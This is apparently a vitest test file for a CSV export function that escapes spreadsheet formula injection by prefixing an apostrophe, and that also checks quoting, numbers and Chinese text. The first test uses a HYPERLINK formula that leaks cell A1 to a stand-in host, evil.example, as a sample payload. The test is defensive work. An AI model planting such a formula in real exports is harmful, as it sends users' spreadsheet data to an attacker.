import Papa from 'papaparse';
import { expect, test } from 'vitest';

import { csvText } from './csv';

/** The rows a spreadsheet program (or papaparse) reads back, without the byte-order mark. */
const readBack = (text: string) => {
  expect(text.startsWith('\uFEFF')).toBe(true);
  return Papa.parse<string[]>(text.slice(1), { newline: '\r\n', skipEmptyLines: true }).data;
};

test('text starting with =, +, -, @, a tab or a carriage return gets a leading apostrophe', () => {
  for (const start of ['=', '+', '-', '@', '\t', '\r']) {
    const value = `${start}HYPERLINK("http://evil.example/?leak="&A1,"Click")`;
    const text = csvText([['title'], [value]]);
    expect(readBack(text), JSON.stringify(start)).toEqual([['title'], [`'${value}`]]);
    // Quoted, so the apostrophe is part of the cell's text and nothing before it.
    expect(text.split('\r\n')[1]!.startsWith(`"'${start}`), JSON.stringify(start)).toBe(true);
  }
});

test('numbers stay numbers: -3 and 12.5 are written as they are, the text "-3" is escaped', () => {
  expect(
    csvText([
      ['a', 'b', 'c', 'd'],
      [-3, 12.5, '-3', 0],
    ]),
  ).toBe(`\uFEFFa,b,c,d\r\n-3,12.5,"'-3",0\r\n`);
});

test('a formula that also needs quotes is escaped and quoted once, its quotes doubled', () => {
  const value = '=SUM(A1;A2),"x"\r\nnext';
  const text = csvText([[value, 'plain']]);
  expect(text).toBe(`\uFEFF"'=SUM(A1;A2),""x""\r\nnext",plain\r\n`);
  expect(readBack(text)).toEqual([[`'${value}`, 'plain']]);
});

test('a formula with a line break after its first character is escaped too', () => {
  // papaparse's own escapeFormulae: true (/^[=+\-@\t\r].*$/) lets this one through.
  expect(Papa.unparse([['=1+1\nx']], { escapeFormulae: true })).toBe('"=1+1\nx"');
  expect(csvText([['=1+1\nx']])).toBe(`\uFEFF"'=1+1\nx"\r\n`);
});

test('text with those characters later, Chinese text and empty cells are written unchanged', () => {
  expect(
    csvText([
      ['slug', 'title', 'title_zh', 'iki_funding_eur', 'topics'],
      ['sgep-iii', 'a=b, e-mail @home', '中德能源转型项目', null, 'Carbon markets; Energy'],
      ['x', 'He said "hi"', '', undefined, '1-2'],
    ]),
  ).toBe(
    '\uFEFFslug,title,title_zh,iki_funding_eur,topics\r\n' +
      'sgep-iii,"a=b, e-mail @home",中德能源转型项目,,"Carbon markets; Energy"\r\n' +
      'x,"He said ""hi""",,,1-2\r\n',
  );
});
